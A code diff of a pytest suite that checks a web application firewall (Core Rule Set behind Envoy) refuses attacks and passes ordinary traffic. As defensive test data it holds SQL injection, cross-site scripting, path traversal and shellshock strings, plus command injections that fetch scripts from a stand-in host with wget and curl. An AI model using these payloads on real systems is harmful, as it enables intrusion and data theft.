@@ -1,246 +1,346 @@
-"""The Core Rule Set behind a real Envoy: attacks of each class, ordinary traffic, and what happens where nobody can look."""
+"""The Core Rule Set behind a real Envoy: attacks of each class, ordinary traffic, routes of their own, and where nobody can look."""
 
 from __future__ import annotations
 
 import asyncio
 import http.client
-from collections import Counter
+import json
 from collections.abc import AsyncIterator
 from contextlib import asynccontextmanager
-from dataclasses import dataclass, replace
+from dataclasses import replace
 from typing import Any
-from urllib.parse import quote, urlencode
+from urllib.parse import quote
 
 import pytest
 
+from support.attacks import ATTACKS, BROWSER, JSON, ORDINARY, Sent, send
 from support.backend import Backend, backend
 from support.carried import at
 from support.compiled import gateway, inputs, warnings
-from support.led_mesh import led_mesh
+from support.edge import edge, policy
+from support.led_mesh import LedMesh, led_mesh
 from support.running import free_port
 from tulle.compile import build, view
 from tulle.compile.explain import Request, explain_view
-from tulle.model.screen import Firewall
-from tulle.server.firewall import engine
+from tulle.server.firewall.engine import Engine, missing
 from tulle.server.firewall.service import FirewallService
+from tulle.server.firewall.words import NoFirewallError
 
-pytestmark = [pytest.mark.envoy, pytest.mark.timeout(90), pytest.mark.skipif(bool(engine.missing()), reason=engine.missing())]
+pytestmark = [pytest.mark.envoy, pytest.mark.timeout(120), pytest.mark.skipif(bool(missing()), reason=missing())]
 
-BROWSER = {"host": "shop.example", "user-agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0", "accept": "text/html,*/*"}
 REFUSED = (400, 403)
 """By the proxy's own parser, which some never get beyond, and by the firewall."""
-FORM = "application/x-www-form-urlencoded"
+UNKNOWN = {"/find?q=1%252527%2520OR%25201%25253D1", "name=ann&q=1%252527%2520OR%25201%25253D1"}
+"""Attacks that the set's first level does not know: what is escaped three times, and a dozen ranges of one file."""
+MISTAKEN = "5 < 6 and 7 > 3"
+"""The ordinary text that it takes for an attack."""
+SCRIPT = "/find?q=%3Cscript%3Ealert(1)%3C/script%3E"
 
 
-@dataclass(frozen=True)
-class Sent:
-    path: str
-    body: bytes = b""
-    kind: str = FORM
-    method: str = ""
-    headers: tuple[tuple[str, str], ...] = ()
+class Walled:
+    """A gateway with firewalls, and a server behind it."""
+
+    def __init__(self, port: int, led: LedMesh, service: FirewallService, far: Backend) -> None:
+        self.port, self.led, self.service, self.far = port, led, service, far
+
+    async def status(self, sent: Sent | str) -> int:
+        return await asyncio.to_thread(send, self.port, Sent(path=sent) if isinstance(sent, str) else sent)
+
+    async def statuses(self, *sent: Sent | str) -> list[int]:
+        return [await self.status(one) for one in sent]
 
 
-def asked(*values: str) -> list[Sent]:
-    """Each as a parameter of a query, and as a field of a form."""
-    return [Sent(f"/find?{urlencode({'q': v})}") for v in values] + [Sent("/form", urlencode({"q": v}).encode()) for v in values]
+@asynccontextmanager
+async def walled(*documents: str, rules: str = "", service: FirewallService | None = None, asked: bool = True) -> AsyncIterator[Walled]:
+    """`asked`: whether somebody answers the proxy."""
+    port, service = free_port(), service or FirewallService()
+    with backend("far") as far:
+        text = edge(port, *documents, rules=rules)
+        beside = (service.handler(),) if asked else ()
+        async with led_mesh(gateway(), text, at("far", 80, far.port, id="far"), beside=beside) as led:
+            assert led.rejections == []
+            service.know(led.built.mesh.structure.rules.dressing.walls.every)
+            yield Walled(port, led, service, far)
 
 
-def agent(*names: str) -> list[Sent]:
-    return [Sent("/", headers=(("user-agent", name),)) for name in names]
+def test_attacks_are_refused() -> None:
+    async def whole() -> None:
+        async with walled(policy("Firewall", "")) as wall:
+            passed = [one for every in ATTACKS.values() for one in every if await wall.status(one) not in REFUSED]
+            others = [one for one in passed if not ({one.path, one.body} & UNKNOWN or "%2527" in one.body or "range" in one.headers)]
+            assert others == []
+            assert len(wall.far.seen) == len(passed) <= 4, "none of the others got there"
+            assert sum(map(len, ATTACKS.values())) >= 300
+
+    asyncio.run(whole())
 
 
-ATTACKS: dict[str, list[Sent]] = {
-    "SQL injection": asked(
-        "1' OR '1'='1",
-        "1; DROP TABLE users--",
-        "1 UNION SELECT username, password FROM users",
-        "' OR 1=1 -- ",
-        "1 AND SLEEP(5)",
-        "'; EXEC xp_cmdshell('dir'); --",
-        "1' AND (SELECT COUNT(*) FROM information_schema.tables) > 0 --",
-    ),
-    "cross-site scripting": asked(
-        "<script>alert(1)</script>",
-        "<img src=x onerror=alert(1)>",
-        "<svg/onload=alert(document.cookie)>",
-        "javascript:alert(1)//",
-        "<iframe src=javascript:alert(1)>",
-    ),
-    "path traversal": [
-        *asked("../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/shadow"),
-        Sent("/static/..%2f..%2f..%2fetc%2fpasswd"),
-    ],
-    "local files": asked("/etc/passwd", "/proc/self/environ", "php://filter/convert.base64-encode/resource=index"),
-    "remote files": asked("http://203.0.113.7/shell.txt?", "ftp://203.0.113.7/x.php?"),
-    "command execution": asked(
-        "; cat /etc/passwd",
-        "| wget http://203.0.113.7/x.sh",
-        "$(curl http://203.0.113.7/x)",
-        "`id`; uname -a",
-        "() { :; }; /bin/bash -c id",
-    ),
-    "JSON": [
-        Sent("/api", b'{"name": "<script>alert(1)</script>"}', "application/json"),
-        Sent("/api", b"{\"id\": \"1' OR '1'='1\"}", "application/json"),
-    ],
-    "scanners": agent("sqlmap/1.7", "Nikto/2.5.0", "masscan/1.3", "Nessus SOAP", "w3af.org"),
-    "protocol": [
-        Sent("/a%00b?x=%00", method="GET"),
-        Sent("/", method="TRACE"),
-        Sent("/?a=1%0d%0aSet-Cookie:%20a=b%0d%0a%0d%0a<html>"),
-        Sent("/backup.sql.bak"),
-        Sent("/.git/config"),
-    ],
-}
-UPLOAD = (
-    b'--here\r\nContent-Disposition: form-data; name="photo"; filename="cat.png"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n--here--\r\n'
-)
-ORDINARY = [
-    Sent("/"),
-    Sent("/shop/shoes?size=42&colour=dark%20blue"),
-    Sent("/find?" + urlencode({"q": "how to select a good union for my bike & order it"})),
-    Sent("/find?" + urlencode({"q": "O'Reilly books"})),
-    Sent("/img/logo.png?v=20260301"),
-    Sent("/" + quote("straße/köln")),
-    Sent("/login", urlencode({"user": "ann@example.com", "password": "correct horse battery staple!"}).encode()),
-    Sent("/comment", urlencode({"text": "Great! I'd buy it again; 10/10 - see you on Monday (or Tuesday)."}).encode()),
-    Sent("/api/orders", b'{"items": [{"id": 7, "count": 2}], "note": "ring twice, please"}', "application/json"),
-    Sent("/api/orders", b'{"name": "Zo\\u00eb", "price": 12.5, "gift": false, "tags": ["a", "b"]}', "application/json"),
-    Sent("/", headers=(("cookie", "session=0123456789abcdef; theme=dark"), ("referer", "https://shop.example/find?q=a"))),
-    Sent("/upload", UPLOAD, "multipart/form-data; boundary=here"),
-]
+def test_ordinary_requests_go_on() -> None:
+    async def whole() -> None:
+        async with walled(policy("Firewall", "")) as wall:
+            held = [one for one in ORDINARY if await wall.status(one) in REFUSED]
+            assert [one for one in held if not {quote(MISTAKEN, safe="").replace("%20", "+"), MISTAKEN} & set(texts(one))] == []
+            assert len(held) <= 3
+            assert len(ORDINARY) >= 100
+            clean = wall.service.tally.requests["istio-system/edge", "clean"]
+            assert clean >= len(ORDINARY) - len(held) - 3, "hardly any finds something that does not count"
+
+    asyncio.run(whole())
 
 
-def mesh(port: int, firewall: str) -> str:
-    return f"""
-apiVersion: networking.istio.io/v1
-kind: Gateway
-metadata: {{name: edge, namespace: istio-system}}
-spec:
-  selector: {{istio: ingressgateway}}
-  servers: [{{port: {{number: {port}, name: http, protocol: HTTP}}, hosts: ["*"], bind: 127.0.0.1}}]
----
-apiVersion: networking.istio.io/v1
-kind: VirtualService
-metadata: {{name: all, namespace: istio-system}}
-spec: {{hosts: ["*"], gateways: [edge], http: [{{route: [{{destination: {{host: far.default.svc.cluster.local}}}}]}}]}}
----
-apiVersion: tulle.dev/v1
-kind: Firewall
-metadata: {{name: edge, namespace: istio-system}}
-spec: {{targetRefs: [{{kind: Gateway, group: networking.istio.io, name: edge}}]{firewall}}}
----
-"""
+def texts(sent: Sent) -> list[str]:
+    return [sent.path.partition("q=")[2], sent.body.partition("q=")[2], json.loads(sent.body).get("q", "") if sent.type == JSON else ""]
 
 
-def send(port: int, sent: Sent) -> int:
+def test_detecting_and_long_bodies() -> None:
+    async def whole() -> None:
+        async with walled(policy("Firewall", "mode: DETECT, maxBodyBytes: 500")) as wall:
+            assert await wall.status(SCRIPT) == 200
+            assert wall.service.tally.requests == {("istio-system/edge", "found"): 1}
+            assert wall.service.tally.classes == {("istio-system/edge", "xss", "found"): 1}
+            (found,) = wall.service.tally.taken()
+            assert (found.severity, found.path, found.client) == ("critical", "/find", "127.0.0.1")
+            assert "941100" in found.rules
+            assert await wall.status(Sent(path="/", body="a" * 501)) == 413
+            assert await wall.status(Sent(path="/", body="a=" + "b" * 498)) == 200
+            assert await asyncio.to_thread(pieces, wall.port, [b"a" * 300, b"b" * 300]) == 413, "without a length, too"
+
+    asyncio.run(whole())
+
+
+def pieces(port: int, body: list[bytes]) -> int:
     connection = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
     try:
-        more = {"content-type": sent.kind, "content-length": str(len(sent.body))} if sent.body else {}
-        headers = {**BROWSER, **more, **dict(sent.headers)}
-        connection.request(sent.method or ("POST" if sent.body else "GET"), sent.path, body=sent.body or None, headers=headers)
+        headers = {**BROWSER, "content-type": "application/x-www-form-urlencoded"}
+        connection.request("POST", "/", body=iter(body), headers=headers, encode_chunked=True)
         return connection.getresponse().status
     finally:
         connection.close()
 
 
-@asynccontextmanager
-async def walled(firewall: str = "", service: FirewallService | None = None) -> AsyncIterator[tuple[int, FirewallService, Backend]]:
-    port, service = free_port(), service or FirewallService()
-    with backend("far") as far:
-        beside = (service.handler(),)
-        async with led_mesh(gateway(), mesh(port, firewall), at("far", 80, far.port, id="far"), beside=beside) as led:
-            assert led.rejections == []
-            yield port, service, far
-
-
-def test_attacks_are_refused_and_ordinary_requests_are_not() -> None:
+@pytest.mark.parametrize(("most", "long"), [(3_000_000, 3_000_001), (2000, 2001)])
+def test_bodies_longer_than_proxies_hold_otherwise(most: int, long: int) -> None:
     async def whole() -> None:
-        async with walled() as (port, service, far):
-            passed: dict[str, list[tuple[int, Sent]]] = {}
-            for kind, every in ATTACKS.items():
-                told = [(one, await asyncio.to_thread(send, port, one)) for one in every]
-                passed[kind] = [(status, one) for one, status in told if status not in REFUSED]
-            assert {kind: one for kind, one in passed.items() if one} == {}
-            assert far.seen == [], "none of them got there"
-            fine = Counter([await asyncio.to_thread(send, port, one) for one in ORDINARY])
-            assert fine == {200: len(ORDINARY)}
-            assert service.counts["istio-system/edge", "clean"] == len(ORDINARY)
+        async with walled(policy("Firewall", f"maxBodyBytes: {most}, excludedRules: [920420]")) as wall:
+            body = {"type": "text/plain"}
+            assert await wall.statuses(Sent(path="/", body="a" * most, **body), Sent(path="/", body="a" * long, **body)) == [200, 413]  # type: ignore[arg-type]
 
     asyncio.run(whole())
 
 
-def test_detecting_excluding_and_long_bodies() -> None:
-    script = Sent("/find?q=%3Cscript%3Ealert(1)%3C/script%3E")
+def test_long_bodies_that_pass() -> None:
+    """Their headers are looked at, and shorter ones are."""
 
     async def whole() -> None:
-        async with walled(", mode: DETECT, maxBodyBytes: 500") as (port, service, _):
-            assert await asyncio.to_thread(send, port, script) == 200
-            assert service.counts == {("istio-system/edge", "found"): 1}
-            assert await asyncio.to_thread(send, port, Sent("/", b"a" * 501)) == 413
+        async with walled(policy("Firewall", "maxBodyBytes: 100, longBodies: PASS")) as wall:
+            attack = "q=%3Cscript%3Ealert(1)%3C/script%3E"
+            document = Sent(path="/", type=JSON, body=json.dumps({"a": "b" * 2_000_000}))
+            short, long = Sent(path="/", body=attack), Sent(path="/", body=f"{attack}&z={'a' * 2_000_000}")
+            assert await wall.statuses(short, long, document, replace(long, path=SCRIPT)) == [403, 200, 200, 403]
+            assert len(wall.far.seen) == 2
 
     asyncio.run(whole())
-    judge, request = engine.Engine().judge, engine.HttpRequest(method="GET", uri=script.path.encode(), headers=((b"host", b"a"),))
-    found = judge(Firewall(name="all"), request)
-    assert found.status == 403
-    rest = judge(Firewall(name="some", excluded=found.rules), request)
-    assert not set(found.rules) & set(rest.rules)
-    assert rest.status == 0
-    plain = engine.HttpRequest(method="POST", uri=b"/", headers=((b"host", b"a"), (b"content-type", b"text/plain")), body=b"hello")
-    assert (judge(Firewall(name="all"), plain).status, judge(Firewall(name="plain", excluded=(920420,)), plain).status) == (403, 0)
-    strict = judge(Firewall(name="strict", paranoia=4), request)
-    assert set(found.rules) < set(strict.rules)
 
 
-def test_rules_that_are_not_used_make_room() -> None:
-    small = engine.Engine(kept=2)
-    request = engine.HttpRequest(
-        method="GET", uri=b"/?q=%3Cscript%3E", headers=((b"host", b"a"), (b"user-agent", b"b"), (b"accept", b"*/*"))
+HANDED = "{kind: VirtualService, group: networking.istio.io, name: edge, sectionName: guarded}"
+RULES = "{name: guarded, match: [{uri: {prefix: /guarded}}], route: [{destination: {host: far.default.svc.cluster.local}}]}, "
+RULES += "{route: [{destination: {host: far.default.svc.cluster.local}}]}"
+
+
+def test_one_route_of_a_virtual_service() -> None:
+    async def whole() -> None:
+        async with walled(policy("Firewall", "maxBodyBytes: 2000000, required: true", target=HANDED), rules=RULES) as wall:
+            attack = SCRIPT.removeprefix("/find")
+            assert await wall.statuses("/guarded" + attack, "/guarded?q=shoes", "/other" + attack) == [403, 200, 200]
+            upload = Sent(path="/guarded", type="multipart/form-data; boundary=here", body=form("a" * 1_500_000))
+            assert await wall.status(upload) == 200
+            assert wall.service.tally.requests == {("istio-system/edge", "refused"): 1, ("istio-system/edge", "clean"): 2}
+            seen = view(wall.led.built.mesh, gateway())
+            told = [step.rule for step in explain_view(seen, gateway(), Request(url=f"http://a:{wall.port}/guarded/x")).steps]
+            assert told[-1] == "Firewall/edge"
+            other = [step.rule for step in explain_view(seen, gateway(), Request(url=f"http://a:{wall.port}/other")).steps]
+            assert "Firewall/edge" not in other
+
+    asyncio.run(whole())
+
+
+def form(content: str) -> str:
+    return (
+        f'--here\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\nContent-Type: text/plain\r\n\r\n{content}\r\n--here--\r\n'
     )
-    firewalls = [Firewall(name=str(level), paranoia=level) for level in (1, 2, 3, 1)]
-    assert [small.judge(firewall, request).status for firewall in firewalls] == [403] * 4
 
 
-class Nothing(engine.Engine):
+HTTP_ROUTE = """
+apiVersion: gateway.networking.k8s.io/v1
+kind: Gateway
+metadata: {{name: front, namespace: istio-system}}
+spec: {{gatewayClassName: tulle, listeners: [{{name: http, port: {port}, protocol: HTTP, allowedRoutes: {{namespaces: {{from: All}}}}}}]}}
+---
+apiVersion: gateway.networking.k8s.io/v1
+kind: HTTPRoute
+metadata: {{name: shop, namespace: default}}
+spec:
+  parentRefs: [{{name: front, namespace: istio-system}}]
+  rules:
+  - {{name: guarded, matches: [{{path: {{type: PathPrefix, value: /guarded}}}}], backendRefs: [{{name: far, port: 80}}]}}
+  - {{backendRefs: [{{name: far, port: 80}}]}}
+---
+apiVersion: tulle.dev/v1
+kind: Firewall
+metadata: {{name: shop, namespace: default}}
+spec: {{targetRefs: [{{group: gateway.networking.k8s.io, kind: HTTPRoute, name: shop{section}}}]}}
+---
+apiVersion: tulle.dev/v1
+kind: Firewall
+metadata: {{name: elsewhere, namespace: istio-system}}
+spec: {{targetRefs: [{{group: gateway.networking.k8s.io, kind: HTTPRoute, name: shop}}]}}
+"""
+
+
+@pytest.mark.parametrize(("section", "other"), [(", sectionName: guarded", 200), ("", 403)])
+def test_one_rule_of_an_http_route_or_all(section: str, other: int) -> None:
+    async def whole() -> None:
+        port, service = free_port(), FirewallService()
+        node = replace(gateway(), bind="127.0.0.1")
+        with backend("far") as far:
+            text = HTTP_ROUTE.format(port=port, section=section)
+            async with led_mesh(node, text, at("far", 80, far.port, id="far"), beside=(service.handler(),)) as led:
+                assert led.rejections == []
+                service.know(led.built.mesh.structure.rules.dressing.walls.every)
+                paths = ("/guarded" + SCRIPT, "/guarded", SCRIPT)
+                assert [await asyncio.to_thread(send, port, Sent(path=path)) for path in paths] == [403, 200, other]
+                (told,) = warnings(led.built, "Firewall/elsewhere")
+                assert "not in force: there is no HTTPRoute istio-system/shop" in told
+
+    asyncio.run(whole())
+
+
+def test_a_route_of_its_own_behind_the_gateway_of_all() -> None:
+    """They add up: what either refuses is refused."""
+    own = policy("Firewall", "paranoiaLevel: 2", name="own", target=HANDED)
+    lax = policy("Firewall", "exclusions: [{tags: [attack-xss]}]")
+
+    async def whole() -> None:
+        async with walled(lax, own, rules=RULES) as wall:
+            attack = SCRIPT.removeprefix("/find")
+            assert await wall.statuses("/guarded" + attack, "/other" + attack) == [403, 200]
+            requests = wall.service.tally.requests
+            assert requests["istio-system/own", "refused"] == 1
+            assert requests["istio-system/edge", "clean"] == 2
+
+    asyncio.run(whole())
+
+
+EXCLUSIONS = (
+    "exclusions: ["
+    "{paths: [/static/*]}, "
+    "{parameters: [comment], tags: [attack-xss]}, "
+    "{paths: [/search], rules: [942100]}, "
+    "{paths: ['*.raw'], headers: [x-note], cookies: [note]}]"
+)
+
+
+def test_exclusions() -> None:
+    script, injection = "<script>alert(1)</script>", "1' OR '1'='1"
+    wanted = {
+        f"/static/a?q={quote(script)}": 200,
+        f"/static/..%2fadmin?q={quote(script)}": 403,
+        f"/?comment={quote(script)}": 200,
+        f"/?comments={quote(script)}": 403,
+        f"/?comment={quote(injection)}": 403,
+        f"/search?q={quote(injection)}": 200,
+        f"/searches?q={quote(injection)}": 403,
+    }
+
+    async def whole() -> None:
+        async with walled(policy("Firewall", EXCLUSIONS)) as wall:
+            assert {path: await wall.status(path) for path in wanted} == wanted
+            body = json.dumps({"comment": script})
+            assert await wall.status(Sent(path="/api", type=JSON, body=body)) == 200
+            noted = {"x-note": script, "cookie": f"note={script}"}
+            assert await wall.statuses(Sent(path="/a.raw", headers=noted), Sent(path="/a.rawer", headers=noted)) == [200, 403]
+
+    asyncio.run(whole())
+
+
+def test_own_rules_thresholds_and_content_types() -> None:
+    own = 'rules: \'SecRule REQUEST_HEADERS:X-Team "@streq red" "id:7,phase:1,deny,status:403,log,msg:Red"\''
+
+    async def whole() -> None:
+        async with walled(policy("Firewall", f"{own}, anomalyThresholds: {{requests: 100}}, contentTypes: [text/plain]")) as wall:
+            plain = Sent(path="/", type="text/plain", body="hello")
+            red = Sent(path="/", headers={"x-team": "red"})
+            assert await wall.statuses(SCRIPT, plain, red, "/") == [200, 200, 403, 200]
+            assert [found.rules for found in wall.service.tally.taken() if found.outcome == "refused"] == ["7"]
+
+    asyncio.run(whole())
+
+
+def test_answers_that_tell_too_much() -> None:
+    leak = "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version"
+
+    async def whole() -> None:
+        async with walled(policy("Firewall", "answers: {}")) as wall:
+            wall.far.answer = ("text/html", leak.encode())
+            assert await wall.status("/") == 403
+            assert wall.service.tally.classes == {("istio-system/edge", "disclosure", "refused"): 1}
+            wall.far.answer = ("text/html", (leak + " " * 2_000_000).encode())
+            assert await wall.status("/") == 200, "what is too long is not looked at"
+            wall.far.answer = ("image/png", leak.encode())
+            assert await wall.status("/") == 200, "what is no text is not looked at"
+
+    asyncio.run(whole())
+
+
+def test_an_upgrade_that_brings_a_body_is_refused() -> None:
+    async def whole() -> None:
+        async with walled(policy("Firewall", "")) as wall:
+            upgrade = {"upgrade": "websocket", "connection": "upgrade"}
+            assert await wall.status(Sent(path="/chat", headers=upgrade)) == 101
+            assert await wall.status(Sent(path="/form", body="q=%3Cscript%3Ealert(1)%3C/script%3E", headers=upgrade)) in REFUSED
+            assert [one["path"] for one in wall.far.seen] == ["/chat"]
+
+    asyncio.run(whole())
+
+
+class Nothing(Engine):
     """As on a machine without the library."""
 
     def judge(self, *_: Any) -> Any:
-        raise engine.NoFirewallError("it is not here")
+        raise NoFirewallError("it is not here")
 
 
 @pytest.mark.parametrize(("required", "status"), [("true", 503), ("false", 200)])
 def test_where_the_library_is_missing(required: str, status: int) -> None:
     async def whole() -> None:
-        async with walled(f", required: {required}", FirewallService(Nothing())) as (port, service, far):
-            assert [await asyncio.to_thread(send, port, one) for one in (Sent("/"), Sent("/", b"a=b"))] == [status, status]
-            assert len(far.seen) == (0 if status == 503 else 2)
-            assert service.counts == {("istio-system/edge", "unchecked"): 2}
+        async with walled(policy("Firewall", f"required: {required}"), service=FirewallService(Nothing())) as wall:
+            assert await wall.statuses("/", Sent(path="/", body="a=b")) == [status, status]
+            assert len(wall.far.seen) == (0 if status == 503 else 2)
+            assert wall.service.tally.requests == {("istio-system/edge", "unchecked"): 2}
 
     asyncio.run(whole())
 
 
+@pytest.mark.parametrize("target", ["{kind: Gateway, group: networking.istio.io, name: edge}", HANDED])
 @pytest.mark.parametrize(("required", "status"), [("true", 503), ("false", 200)])
-def test_where_nobody_answers(required: str, status: int) -> None:
+def test_where_nobody_answers(required: str, status: int, target: str) -> None:
     async def whole() -> None:
-        port = free_port()
-        with backend("far") as far:
-            text = mesh(port, f", required: {required}")
-            async with led_mesh(gateway(), text, at("far", 80, far.port, id="far")) as led:
-                assert led.rejections == []
-                assert await asyncio.to_thread(send, port, Sent("/")) == status
+        async with walled(policy("Firewall", f"required: {required}", target=target), rules=RULES, asked=False) as wall:
+            assert await wall.status("/guarded") == status
 
     asyncio.run(whole())
 
 
 def test_what_explain_says() -> None:
-    seen = view(build(inputs(mesh(8080, ", paranoiaLevel: 2"))).mesh, gateway())
+    seen = view(build(inputs(edge(8080, policy("Firewall", "paranoiaLevel: 2")))).mesh, gateway())
     told = [step.why for step in explain_view(seen, gateway(), Request(url="http://a:8080/")).steps if step.rule == "Firewall/edge"]
     assert told == ["the Core Rule Set, at level 2, looks at it and may refuse it"]
 
 
 def test_what_apply_says_where_the_library_is_missing() -> None:
     for required, then in (("true", "requests are refused with 503"), ("false", "requests go on unchecked")):
-        given = replace(inputs(mesh(8080, f", required: {required}")), no_firewall="it is not here")
-        (said,) = warnings(build(given), "Firewall/edge")
+        given = inputs(edge(8080, policy("Firewall", f"required: {required}")))
+        (said,) = warnings(build(replace(given, no_firewall="it is not here")), "Firewall/edge")
         assert f"not in force, {then}: it is not here" in said
+        (said,) = warnings(build(replace(given, broken_firewalls={"istio-system/edge": "line 3"})), "Firewall/edge")
+        assert f"not in force, {then}: line 3" in said
